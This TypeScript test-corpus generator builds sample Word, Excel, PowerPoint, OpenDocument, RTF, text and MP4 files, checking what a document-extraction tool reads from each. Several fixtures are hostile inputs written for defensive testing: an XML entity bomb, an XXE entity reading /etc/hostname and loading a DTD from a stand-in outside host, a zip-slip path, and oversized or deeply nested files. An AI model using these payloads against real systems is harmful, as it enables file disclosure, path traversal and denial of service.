/** Office files and texts as they are sent, and as somebody would write them who means harm. Generated; nothing is kept. */
import { encode } from './encode.ts';
import { type ExpectedWords, type Made, type ReadableFile, writeMade } from './made.ts';
import { compound } from './outlook.ts';
import { type RawMember, rawZip } from './raw-zip.ts';

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const OOXML = 'application/vnd.openxmlformats-officedocument';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

const types: RawMember = {
  name: '[Content_Types].xml',
  data: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
};
const relations = (part: string, list: readonly (readonly [id: string, kind: string, target: string, mode?: string])[]): RawMember => ({
  name: part,
  data: `${XML}<Relationships>${list.map(([id, kind, target, mode]) => `<Relationship Id="${id}" Type="${RELATIONS}/${kind}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`).join('')}</Relationships>`,
});
const root = (target: string) => relations('_rels/.rels', [['rId1', 'officeDocument', target]]);
const core: RawMember = {
  name: 'docProps/core.xml',
  data: `${XML}<cp:coreProperties xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>侵权对比</dc:title><dc:creator>李雷</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">2026-03-02T02:11:12Z</dcterms:created></cp:coreProperties>`,
};
const app: RawMember = {
  name: 'docProps/app.xml',
  data: `${XML}<Properties><Application>Microsoft Office Word</Application></Properties>`,
};
const told = {
  title: '侵权对比',
  author: '李雷',
  software: 'Microsoft Office Word',
  captured: { at: '2026-03-02T02:11:12Z', zone: 'UTC', source: 'office' },
} as const;

const p = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
const body = (content: string, before = '') =>
  `${XML}${before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${content}</w:body></w:document>`;
const docx = (content: string, more: readonly RawMember[] = [], before = '') =>
  rawZip([types, root('word/document.xml'), { name: 'word/document.xml', data: body(content, before) }, ...more]);
const word = (expected: ExpectedWords = {}): ExpectedWords => ({
  mediaType: `${OOXML}.wordprocessingml.document`,
  unreadable: [''],
  inner: [],
  ...expected,
});

const entities = Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('');
const bomb = `<!DOCTYPE x [<!ENTITY e0 "ha">${entities}]>`;
const outside = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname"><!ENTITY % r SYSTEM "https://outside.example/x.dtd">%r;]>';

function words(): Made[] {
  const rich = [
    p('第一段'),
    '<w:p><w:pPr><w:tabs><w:tab w:val="left" w:pos="720"/></w:tabs></w:pPr><w:r><w:t>a</w:t><w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t></w:r></w:p>',
    '<w:p><w:del><w:r><w:delText>taken away</w:delText></w:r></w:del><w:ins><w:r><w:t>brought in</w:t></w:r></w:ins><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>',
    `<w:tbl><w:tr><w:tc>${p('店铺')}${p('第二行')}</w:tc><w:tc>${p('价格')}</w:tc></w:tr><w:tr><w:tc>${p('甲')}</w:tc><w:tc>${p('5')}</w:tc></w:tr></w:tbl>`,
    `<w:p><mc:AlternateContent><mc:Choice><w:txbxContent>${p('in a box')}</w:txbxContent></mc:Choice><mc:Fallback><w:txbxContent>${p('in a box')}</w:txbxContent></mc:Fallback></mc:AlternateContent></w:p>`,
  ].join('');
  const note: RawMember = { name: 'word/footnotes.xml', data: `${XML}<w:footnotes>${p('words of a footnote')}</w:footnotes>` };
  const header: RawMember = { name: 'word/header1.xml', data: `${XML}<w:hdr>${p('words of a header')}</w:hdr>` };
  const wide = docx(p(`${'word '.repeat(50)}`).repeat(200));
  return [
    [
      'rich.docx',
      docx(rich, [note, header, core, app]),
      word({
        metadata: told,
        flags: [],
        words: ['第一段\na\tb\nc\nbrought in\n店铺\n第二行\t价格\n甲\t5\n', 'in a box', 'words of a footnote', 'words of a header'],
        without: ['taken away', 'PAGE', 'in a box\n\nin a box'],
      }),
    ],
    ['long.docx', wide, word({ words: ['word word'] })],
    [
      'macros.docm',
      docx(p('x'), [{ name: 'word/vbaProject.bin', data: 'vba' }]),
      { mediaType: 'application/vnd.ms-word.document.macroenabled.12', flags: ['macros'], words: ['x'] },
    ],
    [
      'remote-template.docx',
      docx(p('x'), [
        relations('word/_rels/settings.xml.rels', [['rId1', 'attachedTemplate', 'https://outside.example/t.dotm', 'External']]),
      ]),
      word({ flags: ['external-content'] }),
    ],
    [
      'only-a-link.docx',
      docx(p('x'), [relations('word/_rels/document.xml.rels', [['rId1', 'hyperlink', 'https://shop.example/', 'External']])]),
      word({ flags: [] }),
    ],
    [
      'with-objects.docx',
      docx(p('x'), [
        { name: 'word/embeddings/oleObject1.bin', data: 'x' },
        { name: '_xmlsignatures/sig1.xml', data: '<x/>' },
      ]),
      word({ flags: ['embedded-files', 'signed'] }),
    ],
    [
      'utf16.docx',
      rawZip([types, root('word/document.xml'), { name: 'word/document.xml', data: Buffer.from(`\ufeff${body(p('宽字符'))}`, 'utf16le') }]),
      word({ words: ['宽字符'] }),
    ],
    ['entity-bomb.docx', docx(p('before &e12; after'), [], bomb), word({ words: ['before'] })],
    ['outside-entity.docx', docx(p('before &f; after'), [], outside), word({ words: ['before'] })],
    ['million-paragraphs.docx', docx('<w:p/>'.repeat(1_000_000)), word()],
    ['deep.docx', docx('<w:p>'.repeat(300_000)), word()],
    ['zeros.docx', rawZip([types, root('word/document.xml'), { name: 'word/document.xml', data: Buffer.alloc(120 * 1024 ** 2) }]), word()],
    ['no-document.docx', rawZip([types, root('word/document.xml'), { name: 'word/other.xml', data: 'x' }]), word({ words: [] })],
    ['broken-xml.docx', docx(`${p('before')}<w:p><w:r><w:t>unclosed & <<< `), word({ words: ['before', 'unclosed'] })],
    ['locked-members.docx', rawZip([types, { name: 'word/document.xml', data: 'x', flags: 1 }]), word({ unreadable: ['encrypted'] })],
    ['slip.docx', docx(p('x'), [{ name: '../../evil.txt', data: 'x' }]), word({ words: ['x'] })],
    [
      'overlapping.docx',
      docx(p('x'), [{ name: 'word/copy.xml', offset: 0, only: 'directory', data: types.data ?? '' }]),
      word({ unreadable: ['', 'damaged'] }),
    ],
  ];
}

function workbooks(): Made[] {
  const cell = (ref: string, inner: string, attributes = '') => `<c r="${ref}"${attributes}>${inner}</c>`;
  const sheet = (rows: string) => `${XML}<worksheet><dimension ref="A1:XFD1048576"/><sheetData>${rows}</sheetData></worksheet>`;
  const xlsx = (sheets: readonly (readonly [name: string, xml: string])[], more: readonly RawMember[] = []) =>
    rawZip([
      types,
      root('xl/workbook.xml'),
      relations('xl/_rels/workbook.xml.rels', [
        ...sheets.map((_, n) => [`rId${n + 1}`, 'worksheet', `worksheets/sheet${n + 1}.xml`] as const),
        ['rS', 'sharedStrings', 'sharedStrings.xml'],
        ['rT', 'styles', 'styles.xml'],
      ]),
      {
        name: 'xl/workbook.xml',
        data: `${XML}<workbook><sheets>${sheets.map(([name], n) => `<sheet name="${name}" sheetId="${n + 1}" r:id="rId${n + 1}"${n === 1 ? ' state="hidden"' : ''}/>`).join('')}</sheets></workbook>`,
      },
      ...sheets.map(([, xml], n) => ({ name: `xl/worksheets/sheet${n + 1}.xml`, data: xml })),
      ...more,
    ]);
  const strings: RawMember = {
    name: 'xl/sharedStrings.xml',
    data: `${XML}<sst><si><t>店铺</t></si><si><r><t>李</t></r><r><t>雷</t></r><rPh><t>aid</t></rPh></si></sst>`,
  };
  const styles: RawMember = {
    name: 'xl/styles.xml',
    data: `${XML}<styleSheet><numFmts><numFmt numFmtId="164" formatCode="yyyy&quot;年&quot;m&quot;月&quot;"/><numFmt numFmtId="165" formatCode="0.00&quot;d&quot;"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="22"/></cellXfs></styleSheet>`,
  };
  const rows = [
    `<row r="1">${cell('A1', '<v>0</v>', ' t="s"')}${cell('C1', '<is><t>inline</t></is>', ' t="inlineStr"')}</row>`,
    `<row r="2">${cell('A2', '<v>46083</v>', ' s="1"')}${cell('B2', '<v>46083</v>', ' s="2"')}${cell('C2', '<v>5</v>', ' s="3"')}${cell('D2', '<v>46083.4244444</v>', ' s="4"')}</row>`,
    `<row r="9">${cell('B9', '<f>1+1</f><v>2</v>')}${cell('C9', '<v>1</v>', ' t="b"')}${cell('D9', '<v>#REF!</v>', ' t="e"')}${cell('E9', '<v>text</v>', ' t="str"')}</row>`,
  ].join('');
  const book = (expected: ExpectedWords = {}): ExpectedWords => ({
    mediaType: `${OOXML}.spreadsheetml.sheet`,
    unreadable: [''],
    inner: [],
    ...expected,
  });
  return [
    [
      'book.xlsx',
      xlsx(
        [
          ['订单', sheet(rows)],
          ['Hidden &amp; more', sheet(`<row>${cell('', '<v>1</v>', ' t="s"')}</row>`)],
        ],
        [strings, styles, core, { ...app, data: `${XML}<Properties><Application>Microsoft Excel</Application></Properties>` }],
      ),
      book({
        metadata: { ...told, software: 'Microsoft Excel' },
        words: ['订单\n店铺\t\tinline\n2026-03-02\t2026-03-02\t5\t2026-03-02 10:11:12\n\t2\tTRUE\t#REF!\ttext\n', 'Hidden & more\n李雷\n'],
        without: ['aid'],
      }),
    ],
    [
      'macros.xlsm',
      xlsx([['a', sheet(rows)]], [strings, { name: 'xl/vbaProject.bin', data: 'x' }]),
      { mediaType: 'application/vnd.ms-excel.sheet.macroenabled.12', flags: ['macros'], words: ['店铺'] },
    ],
    [
      'million-empty-rows.xlsx',
      xlsx([
        [
          'a',
          sheet(
            `${Array.from({ length: 1_000_000 }, (_, n) => `<row r="${n + 1}"/>`).join('')}<row r="1048576">${cell('A1048576', '<v>7</v>')}</row>`,
          ),
        ],
      ]),
      book({ words: ['a\n7\n'] }),
    ],
    [
      'far-column.xlsx',
      xlsx([['a', sheet(Array.from({ length: 20_000 }, (_, n) => `<row r="${n + 1}">${cell(`XFD${n + 1}`, '<v>1</v>')}</row>`).join(''))]]),
      book({ words: ['\t1\n'] }),
    ],
    ['entity-bomb.xlsx', xlsx([['a', `${bomb}${sheet(`<row>${cell('A1', '<is><t>&e12;</t></is>', ' t="inlineStr"')}</row>`)}`]]), book()],
    [
      'strings-out-of-range.xlsx',
      xlsx(
        [
          [
            'a',
            sheet(`<row>${cell('A1', '<v>99999999</v>', ' t="s"')}${cell('B1', '<v>-1</v>', ' t="s"')}${cell('C1', '<v>8</v>')}</row>`),
          ],
        ],
        [strings],
      ),
      book({ words: ['8'] }),
    ],
    [
      'date-rubbish.xlsx',
      xlsx(
        [
          [
            'a',
            sheet(
              `<row>${cell('A1', '<v>1e300</v>', ' s="1"')}${cell('B1', '<v>x</v>', ' s="1"')}${cell('C1', '<v>-5</v>', ' s="1"')}</row>`,
            ),
          ],
        ],
        [styles],
      ),
      book(),
    ],
    [
      'sheet-missing.xlsx',
      rawZip([
        types,
        root('xl/workbook.xml'),
        relations('xl/_rels/workbook.xml.rels', [['rId1', 'worksheet', 'worksheets/gone.xml']]),
        { name: 'xl/workbook.xml', data: '<workbook><sheets><sheet name="Gone" r:id="rId1"/></sheets></workbook>' },
      ]),
      book({ words: ['Gone'] }),
    ],
  ];
}

function presentations(): Made[] {
  const slide = (text: string) =>
    `${XML}<p:sld><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>${text}</a:t></a:r></a:p><a:p><a:r><a:t>second</a:t></a:r><a:br/><a:r><a:t>line</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`;
  const pptx = rawZip([
    types,
    root('ppt/presentation.xml'),
    {
      name: 'ppt/presentation.xml',
      data: `${XML}<p:presentation><p:sldIdLst><p:sldId id="256" r:id="rId2"/><p:sldId id="257" r:id="rId1"/></p:sldIdLst></p:presentation>`,
    },
    relations('ppt/_rels/presentation.xml.rels', [
      ['rId1', 'slide', 'slides/slide1.xml'],
      ['rId2', 'slide', 'slides/slide2.xml'],
    ]),
    { name: 'ppt/slides/slide1.xml', data: slide('shown last') },
    { name: 'ppt/slides/slide2.xml', data: slide('shown first') },
    relations('ppt/slides/_rels/slide2.xml.rels', [['rId1', 'notesSlide', '../notesSlides/notesSlide1.xml']]),
    { name: 'ppt/notesSlides/notesSlide1.xml', data: slide('words of the notes') },
  ]);
  const expected = { mediaType: `${OOXML}.presentationml.presentation`, unreadable: [''], inner: [] } as const;
  return [
    ['slides.pptx', pptx, { ...expected, words: ['shown first\nsecond\nline\n\nwords of the notes', 'shown last'] }],
    [
      'slides-in-a-circle.pptx',
      rawZip([
        types,
        root('ppt/presentation.xml'),
        { name: 'ppt/presentation.xml', data: `<p:presentation>${'<p:sldId r:id="a"/>'.repeat(30_000)}</p:presentation>` },
        relations('ppt/_rels/presentation.xml.rels', [['a', 'slide', 'slides/slide1.xml']]),
        { name: 'ppt/slides/slide1.xml', data: slide('again') },
      ]),
      { ...expected, words: ['again'] },
    ],
  ];
}

const MANIFEST: RawMember = { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>' };
const open = (kind: string, content: string, more: readonly RawMember[] = [MANIFEST]) =>
  rawZip([
    { name: 'mimetype', data: `application/vnd.oasis.opendocument.${kind}`, method: 0 },
    { name: 'content.xml', data: `${XML}<office:document-content><office:body>${content}</office:body></office:document-content>` },
    ...more,
  ]);

function openDocuments(): Made[] {
  const meta: RawMember = {
    name: 'meta.xml',
    data: `${XML}<office:document-meta><office:meta><dc:title>对比</dc:title><meta:initial-creator>韩梅梅</meta:initial-creator><meta:generator>LibreOffice/7.4</meta:generator><meta:creation-date>2026-03-02T10:11:12.123</meta:creation-date></office:meta></office:document-meta>`,
  };
  const of = (kind: string, expected: ExpectedWords = {}): ExpectedWords => ({
    mediaType: `application/vnd.oasis.opendocument.${kind}`,
    unreadable: [''],
    inner: [],
    ...expected,
  });
  const row = (cells: string) => `<table:table-row>${cells}</table:table-row>`;
  const cell = (text: string, more = '') => `<table:table-cell${more}><text:p>${text}</text:p></table:table-cell>`;
  return [
    [
      'text.odt',
      open(
        'text',
        '<office:text><text:tracked-changes><text:p>taken away</text:p></text:tracked-changes><text:h>标题</text:h><text:p>a<text:s text:c="3"/>b<text:tab/>c<text:line-break/>d</text:p></office:text>',
        [MANIFEST, meta],
      ),
      of('text', {
        metadata: {
          title: '对比',
          author: '韩梅梅',
          software: 'LibreOffice/7.4',
          captured: { at: '2026-03-02T10:11:12', zone: 'unknown', source: 'office' },
        },
        words: ['标题\na   b\tc\nd'],
        without: ['taken away'],
      }),
    ],
    [
      'sheet.ods',
      open(
        'spreadsheet',
        `<table:table table:name="订单">${row(cell('店铺') + cell('价格'))}${row(`<table:table-cell table:number-columns-repeated="1000000"/>`)}${row(`<table:table-cell/>${cell('5', ' table:number-columns-repeated="999999999"')}`)}</table:table><table:table table:name="Second">${row(cell('x'))}</table:table>`,
      ),
      of('spreadsheet', { words: ['订单\n店铺\t价格\n\t5\n', 'Second\nx\n'] }),
    ],
    [
      'slides.odp',
      open(
        'presentation',
        '<draw:page><text:p>first slide</text:p></draw:page><draw:page><text:p>second slide</text:p><presentation:notes><text:p>a note</text:p></presentation:notes></draw:page>',
      ),
      of('presentation', { words: ['first slide', 'second slide\na note'] }),
    ],
    ['blanks-bomb.odt', open('text', `<text:p>a<text:s text:c="2000000000"/>b</text:p>`), of('text', { words: ['a '] })],
    [
      'locked.odt',
      open('text', 'x', [
        {
          name: 'META-INF/manifest.xml',
          data: '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
        },
      ]),
      of('text', { unreadable: ['encrypted'] }),
    ],
    [
      'macros.odt',
      open('text', '<text:p>x<draw:image xlink:href="https://outside.example/p.png"/></text:p>', [
        MANIFEST,
        { name: 'Basic/Standard/Module1.xml', data: 'x' },
      ]),
      of('text', { flags: ['external-content', 'macros'] }),
    ],
    [
      'entity-bomb.odt',
      rawZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 },
        { name: 'content.xml', data: `${bomb}<x><text:p>&e12; end</text:p></x>` },
        MANIFEST,
      ]),
      of('text', { words: ['end'] }),
    ],
    [
      'no-content.odt',
      rawZip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 }]),
      of('text', { unreadable: ['damaged'] }),
    ],
  ];
}

const gbk = (text: string) => [...encode(text, 'gb18030')].map((byte) => `\\'${byte.toString(16)}`).join('');

function texts(): Made[] {
  const rtf = (expected: ExpectedWords = {}): ExpectedWords => ({ mediaType: 'application/rtf', unreadable: [''], ...expected });
  const plain = (expected: ExpectedWords = {}): ExpectedWords => ({ mediaType: 'text/plain', unreadable: [''], ...expected });
  return [
    [
      'letter.rtf',
      `{\\rtf1\\ansi\\ansicpg936\\deff0{\\fonttbl{\\f0\\fnil\\fcharset134 SimSun;}{\\f1 Arial;}}{\\colortbl;\\red0;}{\\*\\generator Word 16;}{\\info{\\title ${gbk('通知')}}{\\author Li}{\\creatim\\yr2026\\mo3\\dy2\\hr10\\min11}}\\f0 ${gbk('侵权商品')}\\par a\\tab b\\u8364?c\\{d\\}\\line{\\pict 89504e47}{\\*\\unknown gone}end}`,
      rtf({
        metadata: {
          title: '通知',
          author: 'Li',
          software: 'Word 16',
          captured: { at: '2026-03-02T10:11:00', zone: 'unknown', source: 'office' },
        },
        words: ['侵权商品\na\tb€c{d}\nend'],
        without: ['8950', 'gone', 'SimSun'],
      }),
    ],
    [
      'shift-jis.rtf',
      Buffer.concat([Buffer.from('{\\rtf1\\ansi\\ansicpg932 '), encode('偽物のバッグ', 'shift_jis'), Buffer.from('}')]),
      rtf({ words: ['偽物のバッグ'] }),
    ],
    ['object.rtf', '{\\rtf1 x{\\object\\objemb{\\*\\objdata 0105}}y}', rtf({ flags: ['embedded-files'], words: ['xy'] })],
    ['deep.rtf', `{\\rtf1 ${'{'.repeat(500_000)}deep`, rtf()],
    ['unbalanced.rtf', "{\\rtf1 a}}}}}b\\u-99999999999 \\'zz{\\*", rtf()],
    ['gb18030.csv', encode('店铺,金额\r\n甲,1', 'gb18030'), { mediaType: 'text/csv', words: ['店铺,金额\n甲,1'] }],
    ['utf16.txt', Buffer.from('\ufeff第一行\r\n第二行', 'utf16le'), plain({ words: ['第一行\n第二行'] })],
    ['utf8-mark.txt', '\ufeff第一行', plain({ words: ['第一行'] })],
    ['latin.txt', Buffer.from('Señor Müller ändert Größe', 'latin1'), { words: ['Señor Müller ändert Größe'] }],
    ['shift-jis.txt', encode('これは日本語のテキストです。見積書を送ります。', 'shift_jis'), { words: ['これは日本語のテキストです'] }],
    ['big5.txt', encode('您好，這是繁體中文的說明文件。', 'big5'), { words: ['您好，這是繁體中文的說明文件'] }],
    ['data.json', '{"shop": "甲"}', { mediaType: 'application/json', words: ['甲'] }],
    ['data.xml', `<?xml version="1.0"?>${bomb}<order>&e12;</order>`, { mediaType: 'application/xml', words: ['<order>'] }],
    ['one-long-line.txt', '水'.repeat(300_000), plain({ words: ['水水水'] })],
    ['nothing.txt', '', {}],
  ];
}

function legacy(): Made[] {
  const stream = (name: string, bytes: Buffer) => ({ name, bytes });
  const locked = Buffer.alloc(5_000);
  locked.writeUInt16LE(0xa5ec, 0);
  locked.writeUInt16LE(0x0100, 10);
  const book = Buffer.from([9, 8, 2, 0, 0, 0, 0x2f, 0, 4, 0, 1, 2, 3, 4, ...Array.from({ length: 100 }, () => 0)]);
  const plainBook = Buffer.from([9, 8, 2, 0, 0, 0, 0x0a, 0, 0, 0]);
  const macros = { name: 'Macros', items: [{ name: 'VBA', items: [stream('dir', Buffer.from('x'))] }] };
  return [
    ['locked.doc', compound([stream('WordDocument', locked)]), { mediaType: 'application/msword', unreadable: ['encrypted'] }],
    ['no-text.doc', compound([stream('WordDocument', Buffer.alloc(600)), macros]), { mediaType: 'application/msword', flags: ['macros'] }],
    ['locked.xls', compound([stream('Workbook', book)]), { mediaType: 'application/vnd.ms-excel', unreadable: ['encrypted'] }],
    ['book.xls', compound([stream('Workbook', plainBook)]), { mediaType: 'application/vnd.ms-excel', unreadable: [''], flags: [] }],
    [
      'slides.ppt',
      compound([stream('PowerPoint Document', Buffer.alloc(50)), stream('Current User', Buffer.alloc(20))]),
      { mediaType: 'application/vnd.ms-powerpoint', unreadable: [''] },
    ],
    [
      'locked.docx',
      compound([stream('EncryptedPackage', Buffer.alloc(50)), stream('EncryptionInfo', Buffer.alloc(50))]),
      { mediaType: 'application/x-office-encrypted', unreadable: ['encrypted'] },
    ],
  ];
}

/** A movie header as phones write it: made at `seconds` since 1904, at a place. */
function film(seconds: number, place: string): Buffer {
  const box = (type: string, content: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(content.length + 8, 0);
    head.write(type, 4, 'latin1');
    return Buffer.concat([head, content]);
  };
  const header = Buffer.alloc(100);
  header.writeUInt32BE(seconds, 4);
  header.writeUInt32BE(1_000, 12);
  const text = Buffer.concat([Buffer.from([0, place.length, 0x15, 0xc7]), Buffer.from(place)]);
  return Buffer.concat([
    box('ftyp', Buffer.from('isom\0\0\u0002\0isommp42', 'latin1')),
    box('free', Buffer.alloc(30)),
    box('moov', Buffer.concat([box('mvhd', header), box('udta', box('\u00a9xyz', text))])),
  ]);
}

function media(): Made[] {
  const at = Date.parse('2026-03-02T02:11:12Z') / 1000 + 2_082_844_800;
  return [
    [
      'phone.mp4',
      film(at, '+22.5431+114.0579/'),
      {
        mediaType: 'video/mp4',
        unreadable: [''],
        flags: ['gps'],
        metadata: {
          gps: { latitude: '22.5431', longitude: '114.0579' },
          captured: { at: '2026-03-02T02:11:12Z', zone: 'UTC', source: 'media' },
        },
      },
    ],
    ['clock-never-set.mp4', film(0, 'nowhere'), { unreadable: [''], flags: [], metadata: { captured: null, gps: null } }],
    ['cut.mp4', film(at, '+22/').subarray(0, 80), { flags: [] }],
    ['boxes-of-nothing.mp4', Buffer.concat([film(at, 'x').subarray(0, 24), Buffer.alloc(4_000)]), { unreadable: ['damaged'] }],
  ];
}

/** Writes the corpus into a folder, which must exist. */
export const writeOfficeCorpus = (folder: string): Promise<readonly ReadableFile[]> =>
  writeMade(folder, [...words(), ...workbooks(), ...presentations(), ...openDocuments(), ...texts(), ...legacy(), ...media()]);
